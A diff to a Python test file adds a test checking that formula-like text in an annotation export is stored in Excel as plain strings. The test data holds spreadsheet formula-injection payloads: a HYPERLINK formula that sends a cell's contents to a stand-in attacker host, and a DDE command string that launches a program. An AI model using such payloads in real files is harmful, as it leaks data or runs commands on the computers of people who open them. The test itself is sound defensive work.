@@ -3,6 +3,7 @@ on the label columns, the annotator's name as a document property, and text that
 
 from __future__ import annotations
 
+import zipfile
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -66,3 +67,22 @@ def test_a_cell_longer_than_excel_allows_is_cut_with_a_note(tmp_path: Path) -> N
     write_batch(path, annotator="ann", candidates=[_candidate(solution="x" * 40_000)], batch="b", deadline=DEADLINE)
     solution = load_workbook(path).active["D2"].value
     assert len(solution) == MAX_CELL_CHARS and solution.endswith("[cut: 40,000 characters, see the app]")
+
+
+def test_formula_text_is_written_as_a_string_never_a_formula(tmp_path: Path) -> None:
+    """Issue 17, item 3: a problem text a spreadsheet would run stays text in the batch sheet, exactly."""
+    hostile = {
+        "question": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+        "rewritten_question": "+cmd|' /C calc'!A0",
+        "unsolvable_reason": "@SUM(1+1)",
+        "rewritten_condition": "-2+3",
+        "solution": "'=already quoted",
+    }
+    path = tmp_path / "ann.xlsx"
+    write_batch(path, annotator="ann", candidates=[_candidate(**hostile)], batch="b", deadline=DEADLINE)
+    sheet = load_workbook(path).active
+    cells = {name: sheet.cell(row=2, column=COLUMNS.index(name) + 1) for name in hostile}
+    assert {name: cell.value for name, cell in cells.items()} == hostile
+    assert {cell.data_type for cell in cells.values()} == {"s"}
+    with zipfile.ZipFile(path) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
